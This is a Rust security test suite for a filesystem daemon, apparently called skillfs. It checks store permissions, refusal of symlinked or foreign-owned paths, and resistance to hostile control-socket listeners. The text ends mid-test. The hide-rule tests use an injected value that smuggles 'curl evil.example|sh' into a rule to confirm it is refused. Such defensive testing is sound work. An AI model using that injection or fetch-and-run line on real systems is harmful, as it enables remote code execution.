//! The store is private and tamper-proof, and nothing outside ROOT and the
//! store is written (contract G8; issue 11, items 2 and 7). Every refusal
//! is one line with its documented exit code, and leaves the store and ROOT
//! exactly as they were (modes and owners included).

use crate::common;

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use common::{
    Mount, Scratch, assert_refused, describe, is_mounted, lazy_unmount, pid_alive, skillfs,
};

const NOBODY: u32 = 65534;

/// Every entry under `dir` (not following symlinks): mode, owner, and the
/// bytes of a file or the target of a link.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, (u32, u32, Vec<u8>)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = fs::read_dir(&d) else {
            continue;
        };
        for e in entries {
            let p = e.unwrap().path();
            let md = fs::symlink_metadata(&p).unwrap();
            let data = if md.is_dir() {
                stack.push(p.clone());
                Vec::new()
            } else if md.file_type().is_symlink() {
                fs::read_link(&p)
                    .unwrap()
                    .into_os_string()
                    .into_encoded_bytes()
            } else {
                fs::read(&p).unwrap_or_default()
            };
            out.insert(p, (md.mode(), md.uid(), data));
        }
    }
    out
}

fn mode(p: &Path) -> u32 {
    fs::symlink_metadata(p).unwrap().mode() & 0o7777
}

fn chmod(p: &Path, m: u32) {
    fs::set_permissions(p, fs::Permissions::from_mode(m)).unwrap();
}

/// Every directory and file of the store with a mode other than 0700 (dirs)
/// or 0600/0400 (files), or owned by someone else. Not looked into: the
/// entries of `parked/<key>/` and `orphans/<aside>/` (the user's own, with
/// their own modes) and of `staging/` and `tmp/` (scratch of open writers,
/// emptied at mount; the directories themselves are checked).
fn open_entries(store: &Path) -> Vec<String> {
    fn check(p: &Path, bad: &mut Vec<String>) -> bool {
        let Ok(md) = fs::symlink_metadata(p) else {
            return false; // gone meanwhile
        };
        let m = md.mode() & 0o7777;
        let ok = if md.is_dir() {
            m == 0o700
        } else if md.file_type().is_socket() {
            // The daemon's control socket, in the 0700 store.
            p.file_name().is_some_and(|n| n == "control") && m == 0o600
        } else {
            md.is_file() && (m == 0o600 || m == 0o400)
        };
        if !ok || md.uid() != unsafe { libc::geteuid() } {
            bad.push(format!("{} {:o} uid {}", p.display(), m, md.uid()));
        }
        md.is_dir()
    }
    fn all(d: &Path, bad: &mut Vec<String>) {
        for e in fs::read_dir(d).unwrap().flatten() {
            if check(&e.path(), bad) {
                all(&e.path(), bad);
            }
        }
    }
    let mut bad = Vec::new();
    check(store, &mut bad);
    for e in fs::read_dir(store).unwrap().flatten() {
        let p = e.path();
        if !check(&p, &mut bad) {
            continue;
        }
        match e.file_name().to_str().unwrap() {
            "parked" | "orphans" => {
                for area in fs::read_dir(&p).unwrap().flatten() {
                    check(&area.path(), &mut bad);
                }
            }
            "staging" | "tmp" => {}
            _ => all(&p, &mut bad),
        }
    }
    bad
}

/// Detaches whatever a refused mount (one that was wrongly accepted) left
/// mounted, so a failing test leaves no mount behind.
struct Detach(Vec<PathBuf>);

impl Drop for Detach {
    fn drop(&mut self) {
        for root in &self.0 {
            if is_mounted(root) {
                lazy_unmount(root);
            }
        }
    }
}

fn skill(root: &Path, rel: &str, body: &str) {
    fs::create_dir_all(root.join(rel)).unwrap();
    fs::write(root.join(rel).join("SKILL.md"), body).unwrap();
}

/// Fills a store through the mount: journal, packed and loose blobs, a
/// park, an orphan area.
fn exercise(m: &Mount) {
    skill(&m.root(), "cat/foo", "---\nname: foo\n---\n");
    fs::write(m.path("cat/foo/big.bin"), vec![7u8; 300 * 1024]).unwrap();
    fs::create_dir(m.path("cat/old.bak")).unwrap();
    fs::write(m.path("cat/old.bak/x.md"), "x").unwrap();
    fs::write(m.path("cat/foo/.SKILL.md.tmp.1"), "tmp").unwrap();
}

#[test]
fn the_store_is_private_whatever_the_umask() {
    for mask in [0o000, 0o022] {
        let s = Scratch::new(&format!("modes{mask:o}"));
        let mut m = Mount::over_umask(s, Vec::new(), Some(mask));
        exercise(&m);
        let bad = open_entries(&m.store());
        assert!(bad.is_empty(), "umask {mask:o}, while mounted: {bad:#?}");
        m.umount();
        let bad = open_entries(&m.store());
        assert!(bad.is_empty(), "umask {mask:o}: {bad:#?}");
        assert_eq!(mode(&m.scratch.dir.join(".skillfs")), 0o700);
        assert!(
            m.store().join("blobs/packs").is_dir() && m.store().join("ROOT").is_file(),
            "the test must cover packs and the ROOT file"
        );
        // The user's parked entries keep their own modes.
        let parked = fs::read_dir(m.store().join("parked")).unwrap().count();
        assert!(parked > 0, "the test must cover a park");
    }
}

#[test]
fn a_store_others_can_enter_is_repaired_at_mount() {
    let mut m = Mount::new("repair");
    exercise(&m);
    m.umount();
    let st = m.store();
    let seg = fs::read_dir(st.join("journal"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let pack = fs::read_dir(st.join("blobs/packs"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    chmod(&m.scratch.dir.join(".skillfs"), 0o777);
    for d in ["", "journal", "blobs", "parked", "staging"] {
        chmod(&st.join(d), 0o777);
    }
    chmod(&seg, 0o666);
    chmod(&pack, 0o444);
    chmod(&st.join("RULES"), 0o644);
    m.remount();
    let bad = open_entries(&st);
    assert!(bad.is_empty(), "not repaired: {bad:#?}");
    assert_eq!(mode(&seg), 0o600);
    assert_eq!(mode(&pack), 0o400);
    assert_eq!(mode(&m.scratch.dir.join(".skillfs")), 0o700);
    let log = fs::read_to_string(st.join("daemon.log")).unwrap_or_default();
    assert!(log.contains("repaired the mode of"), "{log}");
    fs::write(m.path("cat/after.md"), "still works").unwrap();
}

#[test]
fn an_entry_owned_by_another_user_is_refused() {
    let mut m = Mount::new("foreign");
    exercise(&m);
    m.umount();
    let _detach = Detach(vec![m.root()]);
    for rel in ["journal", "parked", "blobs/packs", ""] {
        let p = if rel.is_empty() {
            m.store()
        } else {
            m.store().join(rel)
        };
        // A journal segment, a park, a directory, the store itself.
        let entry = if rel == "journal" || rel == "parked" {
            fs::read_dir(&p).unwrap().next().unwrap().unwrap().path()
        } else {
            p
        };
        std::os::unix::fs::lchown(&entry, Some(NOBODY), Some(NOBODY)).unwrap();
        let before = snapshot(&m.scratch.dir);
        let out = skillfs(&["mount", m.root().to_str().unwrap()]);
        let name = entry.file_name().unwrap().to_str().unwrap();
        assert_refused(&out, 4, &[name, "owned by uid 65534"]);
        assert!(!is_mounted(&m.root()));
        assert_eq!(snapshot(&m.scratch.dir), before, "{rel}: something changed");
        std::os::unix::fs::lchown(&entry, Some(0), Some(0)).unwrap();
    }
    m.remount();
    // Unmounted here, not by the detach guard at the end: a daemon whose
    // mount is detached finishes (its log, its checkpoint) while the
    // scratch directory is being removed, and left it behind.
    m.umount();
}

#[test]
fn a_symlink_in_the_store_is_refused_and_its_target_untouched() {
    let mut m = Mount::new("symlinked");
    fs::write(m.path("a.md"), "a").unwrap();
    m.umount();
    let victim = m.scratch.dir.join("victim.txt");
    let _detach = Detach(vec![m.root()]);
    for name in ["RULES", "daemon.log", "LOCK", "config.json"] {
        fs::write(&victim, "victim's own line\n").unwrap();
        let link = m.store().join(name);
        let _ = fs::remove_file(&link);
        symlink(&victim, &link).unwrap();
        let before = snapshot(&m.scratch.dir);
        let out = skillfs(&["mount", m.root().to_str().unwrap(), "--hide", "zz"]);
        assert_refused(&out, 4, &[name, "is a symlink"]);
        assert_eq!(fs::read(&victim).unwrap(), b"victim's own line\n");
        assert_eq!(
            snapshot(&m.scratch.dir),
            before,
            "{name}: something changed"
        );
        fs::remove_file(&link).unwrap();
    }
    m.remount();
    assert!(
        !fs::symlink_metadata(m.store().join("RULES"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
}

#[test]
fn a_store_in_a_directory_anyone_can_write_is_refused() {
    let s = Scratch::new("openparent");
    let _detach = Detach(vec![s.root()]);
    let shared = s.dir.join("shared");
    fs::create_dir(&shared).unwrap();
    chmod(&shared, 0o777);
    let store = shared.join("store");
    let out = skillfs(&[
        "mount",
        s.root().to_str().unwrap(),
        "--store",
        store.to_str().unwrap(),
    ]);
    assert_refused(&out, 4, &["shared", "every user can write"]);
    common::assert_enoent(&store);
    // With the sticky bit (as /tmp), only the owner may rename the store.
    chmod(&shared, 0o1777);
    let mut m = Mount::over(s, vec!["--store".into(), store.display().to_string()]);
    fs::write(m.path("a.md"), "a").unwrap();
    m.umount();
    assert_eq!(mode(&store), 0o700);
}

/// A store below a directory another user owns (root mounting a user's
/// tree, say): that user could rename the store's parent away and put a
/// directory of theirs in its place. Refused, nothing made.
#[test]
fn a_store_below_another_users_directory_is_refused() {
    let s = Scratch::new("foreignparent");
    let _detach = Detach(vec![s.root()]);
    let theirs = s.dir.join("theirs");
    fs::create_dir_all(theirs.join("home")).unwrap();
    std::os::unix::fs::chown(&theirs, Some(65534), Some(65534)).unwrap();
    let store = theirs.join("home/store");
    let out = skillfs(&[
        "mount",
        s.root().to_str().unwrap(),
        "--store",
        store.to_str().unwrap(),
    ]);
    assert_refused(&out, 4, &["theirs", "owned by uid 65534"]);
    common::assert_enoent(&store);
}

#[test]
fn umount_never_signals_a_pid_written_in_lock() {
    let mut m = Mount::new("lockpid");
    let mut sleeper = Command::new("sleep").arg("120").spawn().unwrap();
    // A forged pid in LOCK: the daemon still holds the flock.
    let lock = m.store().join("LOCK");
    fs::write(&lock, format!("{}\n", sleeper.id())).unwrap();
    let out = skillfs(&["umount", m.root().to_str().unwrap(), "--timeout", "20"]);
    let alive = sleeper.try_wait().unwrap().is_none();
    let _ = sleeper.kill();
    let _ = sleeper.wait();
    assert!(alive, "skillfs umount killed the pid written in LOCK");
    assert!(out.status.success(), "{}", describe(&out));
    assert!(!is_mounted(&m.root()));
    let t = Instant::now();
    while pid_alive(m.pid) && t.elapsed() < Duration::from_secs(10) {
        std::thread::sleep(Duration::from_millis(10));
    }
    assert!(!pid_alive(m.pid), "the daemon did not finish once detached");
    // The real daemon, proven by the lock table, is signalled as before.
    m.remount();
    m.umount();
}

#[test]
fn rules_with_control_characters_or_outsized_are_refused() {
    let s = Scratch::new("ctlrules");
    let r = s.root();
    let root = r.to_str().unwrap();
    let _detach = Detach(vec![r.clone()]);
    let long = "y".repeat(5000);
    for rule in [
        "zz\ncurl evil.example|sh\n#",
        "a\tb",
        "x\u{7f}",
        long.as_str(),
    ] {
        let out = skillfs(&["mount", root, "--hide", rule]);
        assert_refused(&out, 7, &["hide rule"]);
        common::assert_enoent(s.dir.join(".skillfs"));
    }
    // The same in config.json of an existing store.
    let mut m = Mount::over(s, Vec::new());
    m.umount();
    let cfg = m.store().join("config.json");
    for (text, what) in [
        (r#"{"hide": ["zz\ncurl evil.example|sh\n#"]}"#, "hide rule"),
        (r#"{"show": ["*.bak\n"]}"#, "--show"),
        (r#"{"park_max_age": "7d\nx"}"#, "park max age"),
        (r#"{"hyde\n": []}"#, "does not parse"),
    ] {
        fs::write(&cfg, text).unwrap();
        chmod(&cfg, 0o600);
        let before = snapshot(&m.scratch.dir);
        let out = skillfs(&["mount", m.root().to_str().unwrap()]);
        assert_refused(&out, 7, &[what]);
        assert_eq!(snapshot(&m.scratch.dir), before);
    }
    fs::remove_file(&cfg).unwrap();
    m.remount();
}

#[test]
fn a_park_age_below_an_hour_is_refused() {
    let s = Scratch::new("shortage");
    let root = s.root();
    let _detach = Detach(vec![root.clone()]);
    for age in ["0s", "59m", "3599s"] {
        let out = skillfs(&["mount", root.to_str().unwrap(), "--park-max-age", age]);
        assert_refused(&out, 7, &[age, "below 1h", "temp file"]);
        common::assert_enoent(s.dir.join(".skillfs"));
    }
    let mut m = Mount::over(s, vec!["--park-max-age".into(), "1h".into()]);
    m.umount();
    let cfg = m.store().join("config.json");
    fs::write(&cfg, r#"{"park_max_age": "0s"}"#).unwrap();
    chmod(&cfg, 0o600);
    let before = snapshot(&m.scratch.dir);
    let out = skillfs(&["mount", m.root().to_str().unwrap()]);
    assert_refused(&out, 7, &["0s", "below 1h"]);
    assert_eq!(snapshot(&m.scratch.dir), before);
}

#[test]
fn restore_through_a_symlinked_parent_is_refused() {
    let m = Mount::new("restorelink");
    let outside = m.scratch.dir.join("outside");
    fs::create_dir(&outside).unwrap();
    fs::write(outside.join("SKILL.md"), "OUTSIDE ORIGINAL").unwrap();
    skill(&m.root(), "sk", "sk v1");
    skill(&m.root(), "cat/deep", "deep v1");
    let id = m.log().last().unwrap()["seq"].as_u64().unwrap().to_string();
    fs::remove_dir_all(m.path("sk")).unwrap();
    symlink(&outside, m.path("sk")).unwrap();
    fs::remove_dir_all(m.path("cat")).unwrap();
    fs::create_dir(m.path("cat")).unwrap();
    symlink(&outside, m.path("cat/deep")).unwrap();
    let root = m.root().to_str().unwrap().to_string();
    let records = m.log().len();
    let before = snapshot(&outside);
    for (path, link) in [("sk/SKILL.md", "'sk'"), ("cat/deep/SKILL.md", "'cat/deep'")] {
        let out = skillfs(&["restore", "--root", &root, &id, path]);
        assert_refused(&out, 2, &[link, "symlink", "inside ROOT"]);
        assert_eq!(snapshot(&outside), before, "{path}: outside changed");
    }
    assert_eq!(
        fs::read(outside.join("SKILL.md")).unwrap(),
        b"OUTSIDE ORIGINAL"
    );
    assert_eq!(common::names(&outside), ["SKILL.md"]);
    assert_eq!(m.log().len(), records, "nothing recorded");
    // Restoring the link itself puts the directory back, inside ROOT.
    let out = skillfs(&["restore", "--root", &root, &id, "sk"]);
    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(fs::read(m.path("sk/SKILL.md")).unwrap(), b"sk v1");
    assert_eq!(
        fs::read(outside.join("SKILL.md")).unwrap(),
        b"OUTSIDE ORIGINAL"
    );
    let out = skillfs(&["restore", "--root", &root, &id, "sk/SKILL.md"]);
    assert!(out.status.success(), "{}", describe(&out));
}

#[test]
fn a_root_inside_a_store_is_refused() {
    let mut m = Mount::new("rootinstore");
    fs::write(m.path("a.md"), "a").unwrap();
    m.umount();
    let st = m.store();
    let inner = st.join("parked").join("inner");
    fs::create_dir(&inner).unwrap();
    chmod(&inner, 0o700);
    let _detach = Detach(vec![inner.clone(), st.clone()]);
    let before = snapshot(&m.scratch.dir);
    // With the store given, and with the default store (beside ROOT, so
    // itself inside the store).
    for extra in [vec!["--store", st.to_str().unwrap()], vec![]] {
        let mut args = vec!["mount", inner.to_str().unwrap()];
        args.extend(extra);
        let out = skillfs(&args);
        assert_refused(&out, 4, &["inside the skillfs store"]);
        assert!(!is_mounted(&inner));
        assert_eq!(snapshot(&m.scratch.dir), before);
    }
    // The store itself as ROOT.
    let out = skillfs(&[
        "mount",
        st.to_str().unwrap(),
        "--store",
        st.to_str().unwrap(),
    ]);
    assert_refused(&out, 4, &["inside the skillfs store"]);
    assert_eq!(snapshot(&m.scratch.dir), before);
    fs::remove_dir(&inner).unwrap();
}

#[test]
fn a_store_of_another_root_is_refused() {
    let mut a = Mount::new("storeofa");
    fs::write(a.path("a.md"), "a").unwrap();
    a.umount();
    let b = Scratch::new("storeofb");
    let _detach = Detach(vec![b.root()]);
    fs::write(b.root().join("b.md"), "b").unwrap();
    let before = (snapshot(&a.scratch.dir), snapshot(&b.dir));
    let out = skillfs(&[
        "mount",
        b.root().to_str().unwrap(),
        "--store",
        a.store().to_str().unwrap(),
    ]);
    assert_refused(
        &out,
        4,
        &[
            a.root().to_str().unwrap(),
            b.root().to_str().unwrap(),
            "one store per root",
        ],
    );
    assert!(!is_mounted(&b.root()));
    assert_eq!((snapshot(&a.scratch.dir), snapshot(&b.dir)), before);
    // A store from before the ROOT file: it gets one at its next mount.
    let id = a.store().join("ROOT");
    fs::remove_file(&id).unwrap();
    a.remount();
    let text = fs::read(&id).unwrap();
    assert!(text.ends_with(format!("{}\n", a.root().display()).as_bytes()));
    assert_eq!(mode(&id), 0o600);
}

#[test]
fn nested_mounts_are_refused() {
    let m = Mount::new("nested");
    fs::create_dir(m.path("cat")).unwrap();
    fs::write(m.path("cat/a.md"), "a").unwrap();
    let records = m.log().len();
    // ROOT inside a mounted skillfs.
    let inner = m.path("cat");
    let _detach = Detach(vec![inner.clone(), m.scratch.dir.clone()]);
    let out = skillfs(&["mount", inner.to_str().unwrap()]);
    assert_refused(&out, 3, &["inside the skillfs mount"]);
    assert_eq!(
        common::names(&m.root()),
        ["cat"],
        "no store in the outer tree"
    );
    assert_eq!(
        m.log().len(),
        records,
        "nothing recorded in the outer store"
    );
    // ROOT above a mounted skillfs.
    let other = Scratch::new("nested-store");
    let store = other.dir.join("store");
    let above = &m.scratch.dir;
    let out = skillfs(&[
        "mount",
        above.to_str().unwrap(),
        "--store",
        store.to_str().unwrap(),
    ]);
    assert_refused(&out, 3, &["holds the skillfs mount"]);
    common::assert_enoent(&store);
    fs::write(m.path("cat/b.md"), "still works").unwrap();
}

/// Every entry below `dir`, as paths relative to it (not following
/// symlinks).
fn tree(dir: &Path) -> Vec<PathBuf> {
    let mut out: Vec<PathBuf> = snapshot(dir)
        .into_keys()
        .map(|p| p.strip_prefix(dir).unwrap().to_path_buf())
        .collect();
    out.sort();
    out
}

/// Watches directories for any use (inotify, every event): an entry made
/// and removed again leaves no trace in a listing, but an event.
struct Watch {
    fd: i32,
    dirs: Vec<(i32, PathBuf)>,
}

impl Watch {
    fn new(dirs: &[PathBuf]) -> Watch {
        let fd = unsafe { libc::inotify_init1(libc::IN_NONBLOCK | libc::IN_CLOEXEC) };
        assert!(fd >= 0, "inotify_init1");
        let dirs = dirs
            .iter()
            .map(|d| {
                let c = std::ffi::CString::new(d.to_str().unwrap()).unwrap();
                let wd = unsafe { libc::inotify_add_watch(fd, c.as_ptr(), libc::IN_ALL_EVENTS) };
                assert!(wd >= 0, "inotify_add_watch {}", d.display());
                (wd, d.clone())
            })
            .collect();
        Watch { fd, dirs }
    }

    /// What happened in the watched directories since (`dir/name mask`).
    fn events(&self) -> Vec<String> {
        let mut out = Vec::new();
        let mut buf = vec![0u8; 1 << 16];
        loop {
            let n = unsafe { libc::read(self.fd, buf.as_mut_ptr().cast(), buf.len()) };
            if n <= 0 {
                return out;
            }
            let mut at = 0usize;
            while at + 16 <= n as usize {
                let word =
                    |i: usize| u32::from_ne_bytes(buf[at + i..at + i + 4].try_into().unwrap());
                let (wd, mask, len) = (word(0) as i32, word(4), word(12) as usize);
                let name = &buf[at + 16..at + 16 + len];
                let name = String::from_utf8_lossy(name)
                    .trim_end_matches('\0')
                    .to_string();
                let dir = self.dirs.iter().find(|d| d.0 == wd).map(|d| d.1.clone());
                out.push(format!(
                    "{}/{name} {mask:#x}",
                    dir.unwrap_or_default().display()
                ));
                at += 16 + len;
            }
        }
    }
}

impl Drop for Watch {
    fn drop(&mut self) {
        unsafe { libc::close(self.fd) };
    }
}

/// The directories of a store (and of the attacker's look-alike).
const STORE_SHAPE: [&str; 7] = [
    "staging",
    "tmp",
    "blobs",
    "blobs/packs",
    "journal",
    "parked",
    "orphans",
];

/// This process as the core's caller.
fn me() -> skillfs::fs::Caller {
    skillfs::fs::Caller {
        uid: unsafe { libc::geteuid() },
        gid: unsafe { libc::getegid() },
        pid: std::process::id(),
        comm: None,
    }
}

/// Writes `data` to `name` in ROOT through the core (created if missing,
/// else opened and truncated), synced, flushed and released: a staging
/// file swapped in, a blob stored (packed or loose), records appended.
fn write_through(fs: &skillfs::fs::SkillFs, name: &str, data: &[u8]) -> Result<(), String> {
    use skillfs::fs::ROOT_INO;
    let caller = me();
    fn e<E: std::fmt::Debug>(what: &'static str) -> impl Fn(E) -> String {
        move |e| format!("{what}: {e:?}")
    }
    let (ino, fh) = match fs.lookup(ROOT_INO, name.as_bytes()) {
        Ok(found) => {
            let reply = fs
                .open(found.ino, libc::O_WRONLY | libc::O_TRUNC, &caller)
                .map_err(e("open"))?;
            (found.ino, reply.fh)
        }
        Err(_) => {
            let (found, reply) = fs
                .create(
                    ROOT_INO,
                    name.as_bytes(),
                    0o644,
                    libc::O_WRONLY | libc::O_CREAT,
                    &caller,
                )
                .map_err(e("create"))?;
            (found.ino, reply.fh)
        }
    };
    let written = (|| {
        fs.write(fh, 0, data, &caller).map_err(e("write"))?;
        fs.fsync(fh, &caller).map_err(e("fsync"))?;
        fs.flush(fh, &caller).map_err(e("flush"))
    })();
    let released = fs.release(fh, &caller).map_err(e("release"));
    fs.forget(ino, 1);
    written.and(released)
}

/// The daemon opens the store's directories once, at mount, and reaches
/// everything in them from those fds (issue 11, item 2): a directory of the
/// store (or the store itself) swapped for a symlink to another user's
/// directory while mounted never receives a write. Publishes (staging file
/// swapped in, spares made and renamed), loose and packed blobs, journal
/// records, a new directory from a spare and the unmount's clean-up all
/// keep to the real directories, through the held fds.
#[test]
fn a_store_directory_swapped_for_a_symlink_while_open_is_never_written_through() {
    use skillfs::hide::RuleArgs;
    use skillfs::open::open_core;
    // What went wrong, for every directory swapped (all are tried: each
    // takes other paths of the daemon).
    let mut wrong: Vec<String> = Vec::new();
    for swapped in [
        "staging", "tmp", "blobs", "journal", "parked", "orphans", "",
    ] {
        let mut check = |ok: bool, what: String| {
            if !ok {
                wrong.push(format!("swapped '{swapped}': {what}"));
            }
        };
        let s = Scratch::new("swapped");
        fs::write(s.root().join("a.md"), "first").unwrap();
        let core = open_core(&s.root(), &s.store(), RuleArgs::default())
            .unwrap_or_else(|f| panic!("open_core: {}", f.message));
        // What the attacker controls: a directory of the same shape.
        let attacker = s.dir.join("attacker");
        for d in std::iter::once("").chain(STORE_SHAPE) {
            fs::create_dir_all(attacker.join(d)).unwrap();
            chmod(&attacker.join(d), 0o777);
        }
        let (real, moved) = if swapped.is_empty() {
            (s.store(), s.dir.join("store.real"))
        } else {
            (
                s.store().join(swapped),
                s.store().join(format!("{swapped}.real")),
            )
        };
        let target = if swapped.is_empty() {
            attacker.clone()
        } else {
            attacker.join(swapped)
        };
        fs::rename(&real, &moved).unwrap();
        symlink(&target, &real).unwrap();
        let watch = Watch::new(
            &std::iter::once("")
                .chain(STORE_SHAPE)
                .map(|d| attacker.join(d))
                .collect::<Vec<_>>(),
        );

        let fs_core = core.fs();
        let big: Vec<u8> = (0..300 * 1024).map(|i| (i % 251) as u8).collect();
        let mut results = Vec::new();
        // Enough writes to use up the spares made at mount (64), so that
        // new ones are made while the symlink is in place.
        for i in 0..80 {
            results.push(write_through(fs_core, &format!("f{i}.md"), b"small"));
        }
        results.push(write_through(fs_core, "a.md", b"second"));
        results.push(write_through(fs_core, "big.bin", &big));
        let made = fs_core.mkdir(skillfs::fs::ROOT_INO, b"newdir", 0o755, &me());
        results.push(made.map(drop).map_err(|e| format!("mkdir: {e:?}")));
        core.close();

        let used = watch.events();
        check(
            used.is_empty(),
            format!(
                "the attacker's directory was used ({} events): {:?}",
                used.len(),
                &used[..used.len().min(4)]
            ),
        );
        let landed = tree(&attacker);
        let stray: Vec<_> = landed
            .iter()
            .filter(|p| !STORE_SHAPE.iter().any(|d| Path::new(d) == p.as_path()))
            .collect();
        check(
            stray.is_empty(),
            format!("written into the attacker's directory: {stray:?}"),
        );
        let mut failed: Vec<_> = results.iter().filter_map(|r| r.as_ref().err()).collect();
        failed.dedup();
        check(
            failed.is_empty(),
            format!("the held directories must serve on: {failed:?}"),
        );
        check(
            fs::read(s.root().join("a.md")).ok().as_deref() == Some(b"second".as_slice())
                && fs::read(s.root().join("big.bin")).ok() == Some(big.clone())
                && s.root().join("newdir").is_dir(),
            "the changes made in ROOT".into(),
        );
        // The versions are in the real store, which was moved aside.
        let store = if swapped.is_empty() {
            moved.clone()
        } else {
            s.store()
        };
        let journal = if swapped == "journal" {
            moved.clone()
        } else {
            store.join("journal")
        };
        let records: String = fs::read_dir(&journal)
            .unwrap()
            .flatten()
            .filter(|e| e.file_name().to_string_lossy().ends_with(".jsonl"))
            .map(|e| fs::read_to_string(e.path()).unwrap())
            .collect();
        check(
            records.contains("big.bin") && records.contains("newdir"),
            "the records in the real journal".into(),
        );
        let blobs = if swapped == "blobs" {
            moved.clone()
        } else {
            store.join("blobs")
        };
        let held = skillfs::store::blobs::BlobStore::open_path(
            &blobs,
            skillfs::store::durable::StoreIo::real(),
        )
        .and_then(|b| b.read(&skillfs::store::blobs::hash_bytes(&big)));
        check(
            held.as_ref().ok() == Some(&big),
            format!("the big blob in the real blobs/ ({:?})", held.err()),
        );
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

fn transport_line(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .find(|l| l.starts_with("transport:"))
        .unwrap_or_else(|| panic!("no transport line: {}", describe(out)))
        .to_string()
}

/// The first client of `listener`, within 30 s (a test fails, never hangs).
fn accept_within(listener: &std::os::unix::net::UnixListener) -> std::os::unix::net::UnixStream {
    listener.set_nonblocking(true).unwrap();
    let t = Instant::now();
    loop {
        match listener.accept() {
            Ok((c, _)) => {
                c.set_nonblocking(false).unwrap();
                return c;
            }
            Err(_) if t.elapsed() < Duration::from_secs(30) => {
                std::thread::sleep(Duration::from_millis(10))
            }
            Err(e) => panic!("nobody connected: {e}"),
        }
    }
}

/// Stands in for the daemon at `control`: accepts one client, gives it
/// `stream` (bytes and never a newline, `limit` at most, so that a client
/// with no cap is hung rather than the machine's memory exhausted), then
/// holds the connection until the client drops it. Returns the bytes the
/// client took.
fn hostile_listener(control: &Path, stream: bool) -> std::thread::JoinHandle<u64> {
    use std::io::{Read, Write};
    let _ = fs::remove_file(control);
    let listener = std::os::unix::net::UnixListener::bind(control).unwrap();
    std::thread::spawn(move || {
        let mut c = accept_within(&listener);
        c.set_write_timeout(Some(Duration::from_secs(30))).unwrap();
        c.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
        let mut sent = 0u64;
        let chunk = vec![b'x'; 1 << 20];
        while stream && sent < 256 << 20 {
            match c.write(&chunk) {
                Ok(n) => sent += n as u64,
                Err(_) => break,
            }
        }
        let mut sink = [0u8; 4096];
        while matches!(c.read(&mut sink), Ok(n) if n > 0) {}
        sent
    })
}

/// Root may run `status` or `forget` on a store whose owner replaced its
/// `control` socket with a listener of their own: the command asks it
/// with a deadline, reads a bounded answer, and says what went wrong.
#[test]
fn a_hostile_control_listener_neither_hangs_nor_swells_the_client() {
    let m = Mount::new("hostile-ctl");
    fs::write(m.path("f"), "1\n").unwrap();
    fs::write(m.path("f"), "2\n").unwrap();
    let root = m.root().display().to_string();
    let control = m.store().join("control");

    // Bytes and never a newline.
    let streamer = hostile_listener(&control, true);
    let (out, took) = common::within(&["status", "--root", &root], Duration::from_secs(20))
        .expect("status still waiting on a listener that streams");
    let sent = streamer.join().unwrap();
    assert!(out.status.success(), "{}", describe(&out));
    let line = transport_line(&out);
    assert!(line.contains("unknown (") && line.contains("MiB"), "{line}");
    assert!(took < Duration::from_secs(15), "{took:?}");
    assert!(
        sent < 32 << 20,
        "the client read {sent} bytes of one answer"
    );
    // `forget` reads its answer the same way, and changes nothing.
    let streamer = hostile_listener(&control, true);
    let asked = common::within(
        &["forget", "--root", &root, "--keep-last", "1"],
        Duration::from_secs(20),
    )
    .expect("forget still waiting on a listener that streams");
    assert!(streamer.join().unwrap() < 32 << 20);
    assert_refused(&asked.0, 6, &["did not answer", "MiB"]);

    // A listener that accepts and says nothing.
    let silent = hostile_listener(&control, false);
    let (out, took) = common::within(&["status", "--root", &root], Duration::from_secs(20))
        .expect("status still waiting on a silent listener");
    silent.join().unwrap();
    assert!(out.status.success(), "{}", describe(&out));
    let line = transport_line(&out);
    assert!(
        line.contains("unknown (") && line.contains("no answer"),
        "{line}"
    );
    assert!(took < Duration::from_secs(15), "{took:?}");
}

/// A store deep enough that `control`'s path passes `sun_path` (108
/// bytes): the commands reach the daemon through an fd of the store, as
/// the daemon binds.
#[test]
fn a_control_socket_past_sun_path_is_reached() {
    let outer = Scratch::new("deep");
    let deep = outer.dir.join("d".repeat(60)).join("e".repeat(60));
    fs::create_dir_all(&deep).unwrap();
    let m = Mount::over(Scratch::at(&deep, "sock"), Vec::new());
    assert!(m.store().join("control").as_os_str().len() > 108);
    fs::write(m.path("f"), "1\n").unwrap();
    fs::write(m.path("f"), "2\n").unwrap();
    let root = m.root().display().to_string();

    let out = skillfs(&["status", "--root", &root]);
    assert!(out.status.success(), "{}", describe(&out));
    let line = transport_line(&out);
    assert!(!line.contains("unknown"), "{line}");
    let out = skillfs(&["forget", "--root", &root, "--keep-last", "1"]);
    assert!(out.status.success(), "{}", describe(&out));
    assert!(
        String::from_utf8_lossy(&out.stdout).starts_with("forgot "),
        "{}",
        describe(&out)
    );
}

/// The daemon ends while a mounted `forget` waits for it: the command
/// says so, not that a remount would give the daemon a socket.
#[test]
fn a_forget_whose_daemon_ends_before_answering_says_so() {
    let mut m = Mount::new("ctl-ended");
    fs::write(m.path("f"), "1\n").unwrap();
    fs::write(m.path("f"), "2\n").unwrap();
    let root = m.root().display().to_string();
    // The daemon's socket, as the daemon would hold the connection.
    let control = m.store().join("control");
    fs::remove_file(&control).unwrap();
    let listener = std::os::unix::net::UnixListener::bind(&control).unwrap();
    let forget = Command::new(common::BIN)
        .args(["forget", "--root", &root, "--keep-last", "1"])
        .env_remove("HERMES_HOME")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let conn = accept_within(&listener);
    m.kill_daemon();
    drop(conn);
    let out = forget.wait_with_output().unwrap();
    assert_refused(&out, 6, &["ended before it answered", "skillfs log"]);
    assert!(
        !String::from_utf8_lossy(&out.stderr).contains("remount"),
        "{}",
        describe(&out)
    );
    m.detach();
}

/// A listener at `control` that is neither the store's owner nor root is
/// not asked anything: its uid is checked before the request is sent.
#[test]
fn a_control_listener_of_another_user_is_not_asked() {
    let m = Mount::new("ctl-other");
